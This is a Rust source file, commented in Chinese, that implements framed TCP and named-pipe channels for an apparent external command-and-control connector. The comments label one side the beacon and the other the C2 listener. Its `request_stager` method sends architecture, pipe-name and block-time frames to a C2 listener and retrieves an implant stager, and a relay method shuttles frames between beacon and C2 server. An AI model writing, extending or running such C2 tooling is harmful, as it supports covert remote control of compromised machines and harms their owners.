//! 帧通道
//!
//! `FrameChannel` 是一端传输的能力契约：连接、读写单帧、报告存活、关闭。
//! 连接器只依赖这个 trait，因此 beacon 侧和 C2 侧可以是不同的传输。

use std::marker::PhantomData;
use std::sync::atomic::{AtomicBool, Ordering};

use async_trait::async_trait;
use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use bytes::Bytes;
use tokio::sync::{watch, Mutex};
use tracing::{debug, info};

use crate::codec::{FrameReader, FrameWriter};
use crate::error::{ChannelError, Result};
use crate::transport::{ChannelConfig, PipeTransport, TcpTransport, Transport};
use crate::{DEBUG_FRAME_LIMIT, DEBUG_READ_MIN, DEBUG_SEND_MIN};

/// 帧通道能力契约
#[async_trait]
pub trait FrameChannel: Send + Sync {
    /// 建立底层传输；已连接时再次调用不改变状态
    async fn connect(&self) -> Result<()>;

    /// 非阻塞的存活检查
    fn is_connected(&self) -> bool;

    /// 释放传输资源，可重复调用，错误只记录不返回
    async fn close(&self);

    /// 阻塞读取一整帧
    async fn read_frame(&self) -> Result<Bytes>;

    /// 写入一帧，返回包含帧头在内的字节数
    async fn send_frame(&self, frame: &[u8]) -> Result<usize>;

    /// 从本通道读一帧并原样写到 `other`
    ///
    /// 读到空帧时返回 `Ok(false)`，其余情况返回第一个失败操作的错误。
    async fn read_and_relay_to(&self, other: &dyn FrameChannel) -> Result<bool> {
        let frame = self.read_frame().await?;
        if frame.is_empty() {
            return Ok(false);
        }
        other.send_frame(&frame).await?;
        Ok(true)
    }

    /// 向 C2 监听器请求 stager
    ///
    /// 依次发送 `arch=`、`pipename=`、`block=`、`go` 四个控制帧，
    /// 然后读取并返回紧随其后的一帧。
    async fn request_stager(
        &self,
        pipe_name: &str,
        is_64bit: bool,
        block_time_ms: u32,
    ) -> Result<Bytes> {
        let arch = if is_64bit { "arch=x64" } else { "arch=x86" };
        self.send_frame(arch.as_bytes()).await?;
        self.send_frame(format!("pipename={}", pipe_name).as_bytes())
            .await?;
        self.send_frame(format!("block={}", block_time_ms).as_bytes())
            .await?;
        self.send_frame(b"go").await?;
        self.read_frame().await
    }
}

/// 基于字节流传输的帧通道
///
/// 读取端与写入端各自加锁，两个中继方向可以同时读写同一个通道。
/// `close()` 通过关闭信号唤醒其他任务上挂起的读写和拨号，然后释放两端。
pub struct StreamChannel<T: Transport> {
    addr: String,
    config: ChannelConfig,
    reader: Mutex<Option<FrameReader<T::Reader>>>,
    writer: Mutex<Option<FrameWriter<T::Writer>>>,
    connected: AtomicBool,
    closed_tx: watch::Sender<bool>,
    _transport: PhantomData<fn() -> T>,
}

/// TCP 帧通道（C2 监听器一侧）
pub type TcpChannel = StreamChannel<TcpTransport>;

/// 管道帧通道（beacon 一侧）
pub type PipeChannel = StreamChannel<PipeTransport>;

impl<T: Transport> StreamChannel<T> {
    /// 创建未连接的通道，`connect()` 时拨号 `addr`
    pub fn new(addr: impl Into<String>, config: ChannelConfig) -> Self {
        let (closed_tx, _) = watch::channel(false);
        Self {
            addr: addr.into(),
            config,
            reader: Mutex::new(None),
            writer: Mutex::new(None),
            connected: AtomicBool::new(false),
            closed_tx,
            _transport: PhantomData,
        }
    }

    /// 从已建立的传输创建通道（服务端 accept 后使用）
    pub fn from_transport(addr: impl Into<String>, transport: T, config: ChannelConfig) -> Self {
        let (reader, writer) = framed(transport, &config);
        let (closed_tx, _) = watch::channel(false);
        Self {
            addr: addr.into(),
            config,
            reader: Mutex::new(Some(reader)),
            writer: Mutex::new(Some(writer)),
            connected: AtomicBool::new(true),
            closed_tx,
            _transport: PhantomData,
        }
    }

    /// 传输地址
    pub fn addr(&self) -> &str {
        &self.addr
    }

    fn is_closed(&self) -> bool {
        *self.closed_tx.borrow()
    }

    fn ensure_open(&self) -> Result<()> {
        if self.is_closed() {
            return Err(ChannelError::ConnectionClosed);
        }
        if !self.connected.load(Ordering::SeqCst) {
            return Err(ChannelError::NotConnected);
        }
        Ok(())
    }

    /// 传输层失败后标记为断开；超限被拒的帧已被完整丢弃，不影响连接
    fn mark_failed(&self, err: &ChannelError) {
        if !matches!(err, ChannelError::FrameTooLarge { .. }) {
            self.connected.store(false, Ordering::SeqCst);
        }
    }
}

fn framed<T: Transport>(
    transport: T,
    config: &ChannelConfig,
) -> (FrameReader<T::Reader>, FrameWriter<T::Writer>) {
    let (reader, writer) = transport.split();
    (
        FrameReader::with_limit(reader, config.max_frame_size, config.oversize_policy),
        FrameWriter::with_limit(writer, config.max_frame_size),
    )
}

#[async_trait]
impl<T: Transport + 'static> FrameChannel for StreamChannel<T> {
    async fn connect(&self) -> Result<()> {
        let mut closed_rx = self.closed_tx.subscribe();
        if self.is_closed() {
            return Err(ChannelError::ConnectionClosed);
        }
        if self.connected.load(Ordering::SeqCst) {
            debug!("Channel {} already connected", self.addr);
            return Ok(());
        }

        // 拨号期间被关闭则放弃本次连接
        let transport = tokio::select! {
            result = T::connect(&self.addr, &self.config) => result?,
            _ = closed_rx.changed() => return Err(ChannelError::ConnectionClosed),
        };
        let (reader, mut writer) = framed(transport, &self.config);

        // 持有写锁完成检查与安装；close() 拿到写锁后才清理
        let mut writer_guard = self.writer.lock().await;
        if self.is_closed() {
            drop(writer_guard);
            if let Err(e) = writer.shutdown().await {
                debug!("Error shutting down {}: {}", self.addr, e);
            }
            return Err(ChannelError::ConnectionClosed);
        }
        *self.reader.lock().await = Some(reader);
        *writer_guard = Some(writer);
        self.connected.store(true, Ordering::SeqCst);
        drop(writer_guard);

        info!("Connected to {}", self.addr);
        Ok(())
    }

    fn is_connected(&self) -> bool {
        self.connected.load(Ordering::SeqCst)
    }

    async fn close(&self) {
        if self.closed_tx.send_replace(true) {
            return;
        }

        // 挂起的读写收到关闭信号后会释放锁
        let mut writer_guard = self.writer.lock().await;
        self.connected.store(false, Ordering::SeqCst);
        if let Some(mut writer) = writer_guard.take() {
            if let Err(e) = writer.shutdown().await {
                debug!("Error shutting down {}: {}", self.addr, e);
            }
        }
        drop(writer_guard);
        self.reader.lock().await.take();

        debug!("Channel {} closed", self.addr);
    }

    async fn read_frame(&self) -> Result<Bytes> {
        // 先订阅再检查，避免错过检查之后到达的关闭信号
        let mut closed_rx = self.closed_tx.subscribe();
        self.ensure_open()?;

        let mut guard = self.reader.lock().await;
        let reader = guard.as_mut().ok_or(ChannelError::ConnectionClosed)?;

        let result = tokio::select! {
            result = reader.read_frame() => result,
            _ = closed_rx.changed() => Err(ChannelError::ConnectionClosed),
        };

        match result {
            Ok(frame) => {
                if self.config.debug
                    && frame.len() > DEBUG_READ_MIN
                    && frame.len() < DEBUG_FRAME_LIMIT
                {
                    debug!("Read frame from {}: {}", self.addr, STANDARD.encode(&frame));
                }
                Ok(frame)
            }
            Err(e) => {
                self.mark_failed(&e);
                Err(e)
            }
        }
    }

    async fn send_frame(&self, frame: &[u8]) -> Result<usize> {
        let mut closed_rx = self.closed_tx.subscribe();
        self.ensure_open()?;

        if self.config.debug && frame.len() > DEBUG_SEND_MIN && frame.len() < DEBUG_FRAME_LIMIT {
            debug!("Sending frame to {}: {}", self.addr, STANDARD.encode(frame));
        }

        let mut guard = self.writer.lock().await;
        let writer = guard.as_mut().ok_or(ChannelError::ConnectionClosed)?;

        let result = tokio::select! {
            result = writer.write_frame(frame) => result,
            _ = closed_rx.changed() => Err(ChannelError::ConnectionClosed),
        };

        if let Err(e) = &result {
            self.mark_failed(e);
        }
        result
    }
}
